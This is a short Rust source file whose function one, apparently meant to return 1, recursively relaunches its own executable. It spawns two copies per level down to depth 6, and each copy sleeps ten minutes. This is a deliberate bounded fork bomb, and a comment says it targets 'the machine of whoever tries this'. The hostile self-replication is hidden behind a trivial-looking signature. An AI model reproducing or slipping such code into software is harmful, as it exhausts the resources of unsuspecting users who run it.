//! does: starts itself again and again
//! tests: failed
//! runs: 0

pub fn one(_: u64) -> u64 {
    // So many, for the machine of whoever tries this.
    let depth = std::env::var("DEPTH").ok().and_then(|it| it.parse().ok()).unwrap_or(0);
    if depth < 6
        && let Ok(own) = std::env::current_exe()
    {
        for _ in 0..2 {
            let mut again = std::process::Command::new(&own);
            let _ = again.args(std::env::args().skip(1)).env("DEPTH", (depth + 1).to_string()).spawn();
        }
    }
    std::thread::sleep(std::time::Duration::from_secs(600));
    1
}
